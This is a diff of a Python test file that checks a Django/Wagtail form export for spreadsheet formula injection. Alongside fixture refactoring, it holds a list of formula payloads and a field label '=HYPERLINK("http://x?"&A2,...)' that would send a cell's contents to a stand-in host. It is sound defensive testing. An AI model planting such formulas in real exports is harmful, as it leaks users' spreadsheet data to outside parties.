@@ -16,7 +16,8 @@ from openpyxl import load_workbook
 
 from forms.exports import defuse_formula
 from forms.models import InterestFormField
-from tests.forms.test_inbox import INTEREST_FORM, make_member, make_registration
+from tests.factories import make_registration
+from tests.forms.test_inbox import INTEREST_FORM
 
 FORMULAS = [
     '=HYPERLINK("http://x","y")',
@@ -26,14 +27,6 @@ FORMULAS = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-@pytest.fixture
-def manager_client(client, django_user_model):
-    client.force_login(
-        make_member(django_user_model, "projektledare", "Programansvariga")
-    )
-    return client
 
 
 @pytest.fixture
@@ -49,10 +42,7 @@ def submissions_url(page, **query):
 
 
 def send_message(form, message, name="Eva Ek"):
-    submission = make_registration(form, name)
-    submission.form_data = {**submission.form_data, "meddelande": message}
-    submission.save(update_fields=["form_data"])
-    return submission
+    return make_registration(form, name, message=message)
 
 
 def downloaded(response):
@@ -107,7 +97,7 @@ def test_wagtails_xlsx_export_stores_formula_like_answers_as_text(manager_client
 def test_a_field_label_cannot_become_a_formula_in_either_export(manager_client, form):
     """The communicators write the labels, which head the exported columns."""
     label = '=HYPERLINK("http://x?"&A2,"y")'
-    InterestFormField.objects.filter(page=form, clean_name="meddelande").update(
+    InterestFormField.objects.filter(page=form, field_type="multiline").update(
         label=label
     )
     send_message(form, "Hej!")
